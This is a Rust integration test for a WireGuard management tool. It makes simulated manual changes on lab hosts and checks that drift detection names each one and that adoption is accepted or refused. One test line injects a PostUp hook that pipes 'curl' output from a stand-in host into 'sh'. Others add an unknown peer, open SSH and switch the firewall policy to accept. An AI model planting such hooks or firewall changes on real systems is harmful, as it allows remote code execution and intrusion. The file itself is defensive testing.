//! What people do to hosts by hand, one thing at a time: each is found and called by its name, none is invented, and each
//! ends in an empty plan, whether the host is mended or the model takes it over.

use serde_json::Value;
use wg_friend_lab::{Lab, Result, Spec};

use super::family::{addressed, lab_or_skip};
use super::office::Admin;

/// Something done by hand.
struct Deed {
    /// Where.
    host: &'static str,
    /// The shell's line. `$remote1` and so on are public keys, `$remote1_one` and `$remote1_all` addresses with their length.
    line: &'static str,
    /// What it is called: kind, severity and subject.
    called: &'static [(&'static str, &'static str, &'static str)],
    taken: Taken,
}

/// What becomes of it when the model is to take it over.
enum Taken {
    /// It does, whole.
    Whole,
    /// It doesn't; the answer says this.
    Not(&'static str),
}
use Taken::{Not, Whole};

const fn deed(
    host: &'static str,
    line: &'static str,
    called: &'static [(&'static str, &'static str, &'static str)],
    taken: Taken,
) -> Deed {
    Deed { host, line, called, taken }
}

const CONF: &str = "/etc/wireguard/wg0.conf";

fn deeds() -> Vec<Deed> {
    vec![
        // Peers.
        deed(
            "hub",
            "wg set wg0 peer $stranger allowed-ips 10.66.0.99/32",
            &[("peer_added", "critical", "stranger")],
            Whole,
        ),
        deed(
            "hub",
            "wg set wg0 peer $remote4 allowed-ips $remote4_all,$remote3_one",
            &[("allowed_ips_changed", "warning", "remote3"), ("allowed_ips_changed", "warning", "remote4")],
            Whole,
        ),
        deed("hub", "wg set wg0 peer $remote2 remove", &[("peer_removed", "warning", "remote2")], Whole),
        deed(
            "hub",
            "wg set wg0 peer $remote4 remove; wg set wg0 peer $stranger allowed-ips $remote4_all",
            &[("peer_modified", "critical", "remote4")],
            Whole,
        ),
        deed(
            "hub",
            "wg genpsk >/tmp/psk; wg set wg0 peer $remote3 preshared-key /tmp/psk; rm /tmp/psk",
            &[("psk_changed", "critical", "remote3")],
            Whole,
        ),
        deed(
            "hub",
            "wg set wg0 peer $remote3 preshared-key /dev/null",
            &[("psk_changed", "critical", "remote3")],
            Whole,
        ),
        deed(
            "hub",
            "wg set wg0 peer $remote5 persistent-keepalive 17",
            &[("keepalive_changed", "info", "remote5")],
            Whole,
        ),
        deed(
            "router-a",
            "wg set wg0 peer $hub persistent-keepalive off",
            &[("keepalive_changed", "info", "hub")],
            Whole,
        ),
        deed(
            "router-b",
            "umask 077; wg showconf wg0 | sed 's/^Endpoint = .*/Endpoint = 203.0.113.200:51820/' >/tmp/c
             wg set wg0 peer $hub remove; wg addconf wg0 /tmp/c; rm /tmp/c",
            &[("endpoint_changed", "info", "hub")],
            Whole,
        ),
        // The interface.
        deed("hub", "wg set wg0 listen-port 51900", &[("port_changed", "warning", "")], Whole),
        deed("exit-b", "wg set wg0 listen-port 51901", &[("port_changed", "warning", "")], Whole),
        deed("hub", "ip link set wg0 mtu 1380", &[("mtu_changed", "warning", "")], Whole),
        deed(
            "hub",
            "wg genkey >/tmp/key; wg set wg0 private-key /tmp/key; rm /tmp/key",
            &[("server_key_changed", "critical", "")],
            Not("known to the host alone"),
        ),
        deed("hub", "ip address add 10.66.0.77/32 dev wg0", &[("address_added", "warning", "")], Whole),
        deed("exit-a", "ip address add 172.31.0.1/24 dev wg0", &[("address_added", "warning", "")], Whole),
        deed(
            "hub",
            "ip address del $(ip -o addr show dev wg0 scope global | awk '{print $4}' | tail -n 1) dev wg0",
            &[("address_removed", "warning", "")],
            Not("the node's own address"),
        ),
        deed("router-a", "wg set wg0 fwmark 0x1234", &[("default_route_changed", "warning", "")], Whole),
        deed("router-b", "ip link set wg0 down", &[("link_down", "warning", "")], Not("up")),
        deed("router-a", "wg-quick down wg0", &[("interface_removed", "critical", "")], Whole),
        deed("exit-a", "sed -i /wg-friend/d /etc/rc.local", &[("boot_changed", "info", "")], Whole),
        // Routes, rules, forwarding, firewall.
        deed(
            "hub",
            "ip route del 192.168.12.0/24 dev wg0",
            &[("route_removed", "warning", "")],
            Not("follows from what the model says"),
        ),
        deed("hub", "ip route add 10.9.0.0/24 dev wg0", &[("route_added", "warning", "")], Whole),
        deed("exit-b", "ip route add 10.9.0.0/24 dev wg0 table 77", &[("route_added", "warning", "")], Whole),
        deed("exit-a", "ip -6 route add fd99:9::/64 dev wg0", &[("route_added", "warning", "")], Whole),
        deed(
            "hub",
            "ip -4 route flush table $(ip -4 rule show | awk '/fwmark 0x7766/ {print $NF; exit}')",
            &[("route_removed", "warning", "")],
            Not("follows from what the model says"),
        ),
        deed(
            "hub",
            "ip -4 rule del pref $(ip -4 rule show | awk -F: '/fwmark 0x7766/ {print $1; exit}')",
            &[("rule_removed", "warning", "")],
            Not("follows from what the model says"),
        ),
        deed(
            "hub",
            "ip -6 rule add pref 7999 fwmark 0x77660099 lookup 7799",
            &[("rule_added", "warning", "")],
            Not("policy rules"),
        ),
        deed(
            "hub",
            "sysctl -qw net.ipv4.ip_forward=0",
            &[("sysctl_changed", "warning", "net.ipv4.ip_forward")],
            Not("can't do without"),
        ),
        deed(
            "router-b",
            "sysctl -qw net.ipv6.conf.all.forwarding=0",
            &[("sysctl_changed", "warning", "net.ipv6.conf.all.forwarding")],
            Not("can't do without"),
        ),
        deed(
            "hub",
            "nft flush table inet wgf_wg0",
            &[("firewall_changed", "critical", "table wgf_wg0")],
            Not("rights"),
        ),
        deed(
            "hub",
            "nft delete table inet wgf_wg0",
            &[("firewall_removed", "critical", "table wgf_wg0")],
            Not("rights"),
        ),
        deed(
            "hub",
            "c=$(nft -s list table inet wgf_wg0 | awk '/chain/ {c=$2} /hook forward/ {print c; exit}')
             nft insert rule inet wgf_wg0 $c tcp dport 22 accept",
            &[("firewall_changed", "critical", "table wgf_wg0")],
            Not("rights"),
        ),
        deed(
            "exit-a",
            "nft add chain inet wgf_wg0 mine",
            &[("firewall_changed", "critical", "table wgf_wg0")],
            Not("rights"),
        ),
        // Files: what counts at the next start only.
        deed("hub", "echo '# mine' >>$CONF", &[("file_changed", "warning", "wg0.conf")], Not("nothing but comments")),
        deed("hub", "chmod 644 $CONF", &[("file_changed", "warning", "wg0.conf")], Not("private keys")),
        deed("router-a", "rm $CONF", &[("file_removed", "warning", "wg0.conf")], Not("its file")),
        deed(
            "hub",
            "sed -i 's/^\\[Interface\\]/&\\nPostUp = ip route add 10.99.0.0\\/24 dev %i/' $CONF",
            &[("hooks_changed", "warning", "")],
            Whole,
        ),
        deed(
            "hub",
            "sed -i 's/^\\[Interface\\]/&\\nPostUp = curl -s http:\\/\\/203.0.113.9\\/x | sh/' $CONF",
            &[("hooks_changed", "warning", "")],
            Not("a pipe; `wg-friend host set hub allow-unsafe=on --reason TEXT` lets it through"),
        ),
        deed(
            "hub",
            "sed -i '0,/^PostUp/s/^PostUp = .*/PostUp = true/' $CONF",
            &[("hooks_changed", "warning", "")],
            Not("wg-friend's own"),
        ),
        deed(
            "router-b",
            "sed -i 's/^\\[Interface\\]/&\\nDNS = 203.0.113.53/' $CONF",
            &[("file_changed", "warning", "wg0.conf")],
            Not("DNS"),
        ),
        deed(
            "router-b",
            "sed -i 's/^\\[Interface\\]/&\\nTable = off/' $CONF",
            &[("file_changed", "warning", "wg0.conf")],
            Not("Table"),
        ),
        deed(
            "exit-b",
            "sed -i 's/^ListenPort = .*/ListenPort = 51999/' $CONF",
            &[("file_changed", "warning", "wg0.conf")],
            Not("ListenPort"),
        ),
        deed(
            "hub",
            "sed -i 's/policy drop/policy accept/; s/^table/# mine\\ntable/' /etc/wireguard/wgf-wg0.nft",
            &[("file_changed", "warning", "wgf-wg0.nft")],
            Not("rights"),
        ),
    ]
}

/// Public keys and addresses, as variables for the shell.
fn variables(admin: &Admin<'_>) -> Result<String> {
    let stranger = admin.lab.host("ctl").sh("wg genkey | wg pubkey")?;
    let mut text = format!("CONF={CONF} stranger={}", stranger.trim());
    for node in ["hub", "remote2", "remote3", "remote4", "remote5"] {
        let shown = admin.json(&["show", node]);
        let word = |key: &str| shown[key].as_str().unwrap().to_owned();
        let own: Vec<String> = admin
            .addresses(node)
            .iter()
            .map(|address| format!("{address}/{}", if address.is_ipv4() { 32 } else { 128 }))
            .collect();
        text.push_str(&format!(" {node}={} {node}_all={} {node}_one={}", word("public_key"), own.join(","), own[0]));
    }
    Ok(text)
}

/// What a look at one host finds: kind, severity and subject, in order.
fn found(admin: &Admin<'_>, host: &str) -> Vec<(String, String, String)> {
    let output = admin.run(&["drift", "check", host, "--json"]);
    let report: Value = serde_json::from_str(&output.stdout).unwrap_or_else(|_| panic!("{}", output.stderr));
    let items = report["hosts"][0]["items"].as_array().unwrap_or_else(|| panic!("{report:#}"));
    assert_eq!(output.status, if items.is_empty() { 0 } else { 3 }, "{report:#}");
    let word = |item: &Value, key: &str| item[key].as_str().unwrap().to_owned();
    let mut found: Vec<_> =
        items.iter().map(|item| (word(item, "kind"), word(item, "severity"), word(item, "subject"))).collect();
    found.sort();
    found
}

/// What isn't ours isn't drift: devices that roam, other people's interfaces, tables, rules, routes and addresses.
fn live(lab: &Lab, admin: &Admin<'_>) -> Result {
    for remote in ["remote1", "remote8"] {
        admin.hand_out(remote, str::to_owned)?;
        lab.host(remote).sh(&addressed("ping -n -c 1 -w 30 10.66.0.1"))?;
    }
    lab.host("remote1").sh(&addressed("wg set wg0 listen-port 45555; ping -n -c 2 -w 30 10.66.0.1"))?;
    lab.host("hub").sh(
        "nft add table inet theirs; ip -4 rule add pref 500 from 10.200.0.1 lookup 100
         ip route add 10.200.0.0/24 via 198.51.100.1; ip address add 10.200.1.1/24 dev eth0
         umask 077; printf '[Interface]\\nPrivateKey = %s\\nListenPort = 52000\\nAddress = 10.201.0.1/24\\n' $(wg genkey) \
             >/etc/wireguard/theirs.conf
         wg-quick up theirs; sysctl -qw net.ipv4.tcp_mtu_probing=1",
    )?;
    for round in 0..2 {
        let output = admin.run(&["drift", "check", "--json"]);
        assert_eq!(output.status, 0, "round {round}: {}{}", output.stdout, output.stderr);
        let report: Value = serde_json::from_str(&output.stdout).unwrap();
        assert_eq!((&report["items"], report["hosts"].as_array().unwrap().len()), (&0.into(), 5), "{report:#}");
    }
    assert_eq!(admin.run(&["plan", "--exit-code"]).status, 0);
    Ok(())
}

#[test]
fn whatever_is_done_by_hand_is_called_by_its_name_and_ends_in_an_empty_plan() -> Result {
    let lab = lab_or_skip!(Spec::office());
    let admin = Admin::new(&lab);
    admin.make_office();
    admin.deploy();
    admin.wait_for(&["router-a", "router-b", "exit-a", "exit-b"])?;
    live(&lab, &admin)?;
    let variables = variables(&admin)?;
    let stranger = variables.split("stranger=").nth(1).unwrap().chars().take(8).collect::<String>();
    let deeds = deeds();
    let long = std::env::var_os("WGF_LONG").is_some_and(|value| value == "1");
    let every = if long { 1 } else { 8 };
    let mut wrong: Vec<String> = Vec::new();
    for (number, deed) in deeds.iter().enumerate().filter(|(number, _)| number % every == 3 % every) {
        let before = wrong.len();
        let mut expect = |right: bool, what: String| {
            if !right {
                wrong.push(format!("{number} {}: {}: {what}", deed.host, deed.line));
            }
        };
        let host = lab.host(deed.host);
        let mut called: Vec<(String, String, String)> = deed
            .called
            .iter()
            .map(|(kind, severity, subject)| {
                let subject = if *subject == "stranger" { &stranger } else { *subject };
                ((*kind).to_owned(), (*severity).to_owned(), addressed(subject))
            })
            .collect();
        called.sort();
        let deployed = |host: &str| {
            let mut words = vec!["deploy", "--yes"];
            words.extend(Some(host).filter(|host| !host.is_empty()));
            let output = admin.run(&words);
            format!("{}{}", output.stdout, output.stderr)
        };
        let plan = |host: &str| {
            let mut words = vec!["plan", "--exit-code"];
            words.extend(Some(host).filter(|host| !host.is_empty()));
            let output = admin.run(&words);
            (output.status == 0, format!("{}{}", output.stdout, output.stderr))
        };
        let act = || host.sh(&addressed(&format!("{variables}\n{}", deed.line)));

        // Mended.
        act()?;
        let seen = found(&admin, deed.host);
        let named = |seen: &[(String, String, String)]| {
            // Which address or route it is, is the subject's matter only where the table says one.
            seen.len() == called.len()
                && seen.iter().zip(&called).all(|(seen, called)| {
                    (&seen.0, &seen.1) == (&called.0, &called.1) && (called.2.is_empty() || seen.2 == called.2)
                })
        };
        expect(named(&seen), format!("found as {seen:?}"));
        let said = deployed(deed.host);
        let (empty, shown) = plan("");
        expect(empty, format!("mended, still\n{shown}\nafter\n{said}"));

        // Taken over.
        let state = admin.json(&["history", "--limit", "1"])["states"][0]["number"].to_string();
        act()?;
        let again = found(&admin, deed.host);
        expect(again == seen, format!("found as {again:?} the second time"));
        let adopted = admin.run(&["drift", "adopt", deed.host, "--yes"]);
        let answer = format!("{}{}", adopted.stdout, adopted.stderr);
        match deed.taken {
            Whole => {
                expect(adopted.status == 0, format!("not taken over: {answer}"));
                let (empty, shown) = plan(deed.host);
                expect(empty, format!("taken over ({answer}), still\n{shown}"));
                expect(found(&admin, deed.host).is_empty(), "taken over, and still drift".to_owned());
                // What others have to know of it.
                let said = deployed("");
                let (empty, shown) = plan("");
                expect(empty, format!("taken over and deployed, still\n{shown}\nafter\n{said}"));
                // Keys that were replaced stay so: then the model is like before already.
                let rolled = admin.run(&["rollback", "--model", &state, "--yes"]);
                expect(rolled.status == 0 || rolled.stderr.contains("like at state"), rolled.stderr);
            }
            Not(why) => {
                expect(adopted.status == 1 && answer.contains(why), format!("not refused for `{why}`: {answer}"));
                expect(found(&admin, deed.host) == seen, "refused, and changed".to_owned());
            }
        }
        let said = deployed("");
        let (empty, shown) = plan("");
        expect(empty, format!("back at the model, still\n{shown}\nafter\n{said}"));
        let outcome = if wrong.len() == before { "as it should be" } else { wrong.last().unwrap() };
        eprintln!("{number} {} `{}`: {outcome}", deed.host, deed.line);
    }
    assert!(wrong.is_empty(), "{} things are wrong:\n{}", wrong.len(), wrong.join("\n"));
    Ok(())
}

#[test]
fn an_interface_that_is_to_be_off_is_found_when_somebody_brings_it_up_or_has_it_start_at_boot() -> Result {
    let lab = lab_or_skip!(Spec::pair());
    let admin = Admin::new(&lab);
    admin.init("small");
    admin.ok(&["add", "server", "a", "--endpoint", "198.51.100.11", "--ssh", "a"]);
    admin.ok(&["add", "router", "b", "--lan", "192.168.9.0/24", "--ssh", "b"]);
    admin.deploy();
    let host = lab.host("b");
    let boots = host.read("/etc/rc.local")?;
    admin.ok(&["interface", "set", "b", "run=off"]);
    admin.deploy();
    assert!(!host.run("ip link show wg0")?.success());
    assert_eq!(found(&admin, "b"), []);

    let named = |kind: &str, severity: &str| vec![(kind.to_owned(), severity.to_owned(), String::new())];
    host.write("/etc/rc.local", &boots)?;
    assert_eq!(found(&admin, "b"), named("boot_changed", "info"));
    let refused = admin.run(&["drift", "adopt", "b", "--yes"]);
    assert!(refused.stderr.contains("doesn't start at boot either"), "{}", refused.stderr);
    admin.deploy();
    assert_eq!(found(&admin, "b"), []);

    host.sh("wg-quick up wg0")?;
    assert_eq!(found(&admin, "b"), named("interface_added", "warning"));
    admin.deploy();
    assert!(!host.run("ip link show wg0")?.success());
    host.sh("wg-quick up wg0")?;
    admin.ok(&["drift", "adopt", "b", "--yes"]);
    assert_eq!(admin.run(&["plan", "b", "--exit-code"]).status, 0);
    assert!(host.run("ip link show wg0")?.success());
    assert_eq!(found(&admin, "b"), []);
    Ok(())
}
